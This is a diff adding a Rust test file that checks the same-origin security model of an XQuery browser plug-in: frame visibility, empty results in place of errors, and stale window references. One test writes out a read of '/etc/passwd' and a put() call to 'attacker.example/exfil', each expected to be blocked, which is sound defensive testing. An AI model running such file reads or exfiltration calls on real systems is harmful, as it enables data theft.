@@ -1,0 +1,140 @@
+//! Experiment E6: the §4.2.1 security model, end to end.
+//!
+//! The paper's contract: failed checks yield the **empty sequence** (never
+//! an error a page could probe), stale references become useless after
+//! navigation, and `fn:doc`/`fn:put` are blocked in the browser.
+
+use xqib::browser::net::Response;
+use xqib::core::plugin::{Plugin, PluginConfig};
+
+fn plugin_with_frames() -> Plugin {
+    let mut p = Plugin::new(PluginConfig {
+        url: "http://www.xqib.org/index.html".to_string(),
+        ..Default::default()
+    });
+    {
+        let mut host = p.host.borrow_mut();
+        let top = host.browser.top();
+        let same = host
+            .browser
+            .create_frame(top, "samesite", "http://www.xqib.org/frame");
+        let cross = host
+            .browser
+            .create_frame(top, "crosssite", "https://bank.example/account");
+        drop(host);
+        for (w, content) in [(same, "<html><body>public</body></html>"),
+                             (cross, "<html><body>balance: 1000</body></html>")] {
+            let doc = xqib_dom::parse_document(content).unwrap();
+            let id = p.store.borrow_mut().add_document(doc, None);
+            p.host.borrow_mut().browser.set_document(w, id);
+        }
+    }
+    p.load_page("<html><body>main</body></html>").unwrap();
+    p
+}
+
+#[test]
+fn same_origin_frame_fully_visible() {
+    let mut p = plugin_with_frames();
+    let out = p
+        .eval("string(browser:top()//window[@name='samesite']/location/href)")
+        .unwrap();
+    assert_eq!(p.render(&out), "http://www.xqib.org/frame");
+    let out = p
+        .eval("string(browser:document(browser:top()//window[@name='samesite']))")
+        .unwrap();
+    assert_eq!(p.render(&out), "public");
+}
+
+#[test]
+fn cross_origin_frame_reveals_nothing() {
+    let mut p = plugin_with_frames();
+    // the frame cannot even be found by name…
+    let out = p
+        .eval("count(browser:top()//window[@name='crosssite'])")
+        .unwrap();
+    assert_eq!(p.render(&out), "0");
+    // …and the anonymous window node has no location, status or document
+    let out = p
+        .eval("count(browser:top()//window[not(@name)]/location)")
+        .unwrap();
+    assert_eq!(p.render(&out), "0");
+    let out = p
+        .eval("count(browser:document(browser:top()//window[not(@name)]))")
+        .unwrap();
+    assert_eq!(p.render(&out), "0");
+}
+
+#[test]
+fn accessors_return_empty_not_errors() {
+    // probing must not distinguish "denied" from "absent" via errors
+    let mut p = plugin_with_frames();
+    let out = p
+        .eval("string(browser:top()//window[not(@name)]/status)")
+        .unwrap();
+    assert_eq!(p.render(&out), "");
+}
+
+#[test]
+fn stale_window_reference_goes_dark_after_navigation() {
+    // §4.2.1: "if later the policy no longer allows its use … this node
+    // becomes useless"
+    let mut p = plugin_with_frames();
+    // initially accessible
+    let out = p
+        .eval("count(browser:top()//window[@name='samesite'])")
+        .unwrap();
+    assert_eq!(p.render(&out), "1");
+    // the frame navigates to another origin
+    {
+        let mut host = p.host.borrow_mut();
+        let w = host.browser.find_by_name("samesite").unwrap();
+        host.browser.navigate(w, "https://elsewhere.example/");
+    }
+    // fresh pulls hide it
+    let out = p
+        .eval("count(browser:top()//window[@name='samesite'])")
+        .unwrap();
+    assert_eq!(p.render(&out), "0");
+}
+
+#[test]
+fn fn_doc_and_fn_put_blocked() {
+    let mut p = plugin_with_frames();
+    let e = p.eval("doc('file:///etc/passwd')").unwrap_err();
+    assert_eq!(e.code, "XQIB0001");
+    let e = p.eval("put(<x/>, 'http://attacker.example/exfil')").unwrap_err();
+    assert_eq!(e.code, "XQIB0001");
+}
+
+#[test]
+fn fetched_documents_are_reachable_after_fetch() {
+    // the browser profile allows exactly what the plug-in provided
+    let mut p = plugin_with_frames();
+    p.host.borrow_mut().net.register("http://api.xqib.org/", 5, |_| {
+        Response::ok("<data><v>42</v></data>")
+    });
+    p.eval("browser:httpGet('http://api.xqib.org/data.xml')").unwrap();
+    let out = p.eval("string(doc('http://api.xqib.org/data.xml')//v)").unwrap();
+    assert_eq!(p.render(&out), "42");
+}
+
+#[test]
+fn window_name_search_respects_policy_for_nested_frames() {
+    let mut p = Plugin::new(PluginConfig::default());
+    {
+        let mut host = p.host.borrow_mut();
+        let top = host.browser.top();
+        let mid = host.browser.create_frame(top, "mid", "http://www.xqib.org/a");
+        host.browser.create_frame(mid, "deep", "http://www.xqib.org/b");
+        host.browser.create_frame(mid, "foreign", "http://evil.example/");
+    }
+    p.load_page("<html><body/></html>").unwrap();
+    // the paper's `browser:top()//window[@name="myframe"]` deep search
+    let out = p.eval("count(browser:top()//window[@name='deep'])").unwrap();
+    assert_eq!(p.render(&out), "1");
+    let out = p.eval("count(browser:top()//window[@name='foreign'])").unwrap();
+    assert_eq!(p.render(&out), "0");
+    let out = p.eval("count(browser:top()//window)").unwrap();
+    assert_eq!(p.render(&out), "3", "all frames materialise, opaque or not");
+}
